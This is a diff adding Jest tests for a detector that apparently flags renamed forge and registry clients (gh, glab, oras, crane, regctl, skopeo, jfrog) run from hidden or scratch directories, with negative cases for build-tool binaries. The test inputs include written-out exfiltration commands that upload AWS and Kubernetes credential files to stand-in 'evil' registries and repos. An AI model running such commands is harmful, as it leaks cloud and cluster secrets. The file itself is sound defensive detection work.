@@ -77,3 +77,53 @@ describe('an uploader copied under another name', () => {
       expect(alerts[0]!.summary).toContain('/tmp/.c/x');
     });
 });
+
+describe('a forge or registry client copied under another name', () => {
+  // Found by red-team review: a copy of gh, oras, regctl… in a scratch or hidden directory sent a secret of a
+  // few KiB and raised nothing, where a copy of curl was recognised.
+  it('is recognised by its sub-command in a scratch or hidden directory', () => {
+    expect(recognize('/tmp/.x/kworker', 'gist create /home/app/.kube/config')).toEqual({ tool: 'gh', renamed: true });
+    expect(recognize('/dev/shm/x', 'release upload v1 /tmp/d.tgz')).toEqual({ tool: 'gh', renamed: true });
+    expect(recognize('/dev/shm/x', 'api -X PUT repos/evil/x/contents/k --input /tmp/b.json')).toEqual({
+      tool: 'gh',
+      renamed: true,
+    });
+    expect(recognize('/dev/shm/x', 'snippet create -t x /root/.aws/credentials')).toEqual({
+      tool: 'glab',
+      renamed: true,
+    });
+    expect(recognize('/tmp/.c/x', 'push ghcr.io/evil/x:1 /root/.aws/credentials')).toEqual({
+      tool: 'oras',
+      renamed: true,
+    });
+    expect(recognize('/tmp/.c/x', 'push /tmp/l.tar ghcr.io/evil/x:1')).toEqual({ tool: 'crane', renamed: true });
+    expect(recognize('/tmp/.c/x', 'artifact put ghcr.io/evil/x:1 -f /root/.aws/credentials')).toEqual({
+      tool: 'regctl',
+      renamed: true,
+    });
+    expect(recognize('/tmp/.c/x', 'copy dir:/tmp/l docker://quay.io/evil/x:1')).toEqual({
+      tool: 'skopeo',
+      renamed: true,
+    });
+    expect(recognize('/memfd:x (deleted)', 'rt upload /tmp/d.tgz generic-local/')).toEqual({
+      tool: 'jfrog',
+      renamed: true,
+    });
+  });
+
+  it('not elsewhere, nor when the command line names no registry for an image client', () => {
+    expect(recognize('/usr/local/bin/x', 'gist create /home/app/.kube/config')).toBeNull();
+    expect(recognize('/opt/app/bin/sync', 'push ghcr.io/evil/x:1 /root/.aws/credentials')).toBeNull();
+    // `go run ./cmd/deploy …` runs from /tmp/go-build…/exe/: crane's and regctl's shapes, naming no registry.
+    expect(recognize('/tmp/go-build1/b001/exe/deploy', 'copy config.yaml build/config.yaml')).toBeNull();
+    expect(recognize('/tmp/go-build1/b001/exe/deploy', 'cp ./a ./b')).toBeNull();
+    expect(recognize('/tmp/go-build1/b001/exe/tool', 'push app')).toBeNull();
+    // Build tools whose plain `build` or `deploy` pushes are never taken for copies: any program says that.
+    expect(recognize('/tmp/go-build1/b001/exe/mage', 'build')).toBeNull();
+    expect(recognize('/tmp/go-build1/b001/exe/ci', 'deploy staging')).toBeNull();
+    // A copied git is recognised through its helpers (send-pack, git-receive-pack), not by `push` alone.
+    expect(recognize('/tmp/.x/x', 'push origin main')).toBeNull();
+    expect(recognize('/dev/shm/.w/dbus-launch', 'push https://github.com/w0rk3r/drop.git HEAD:main')).toBeNull();
+    expect(recognize('/dev/shm/.w/x', 'push git@github.com:w0rk3r/drop.git HEAD:main')).toBeNull();
+  });
+});
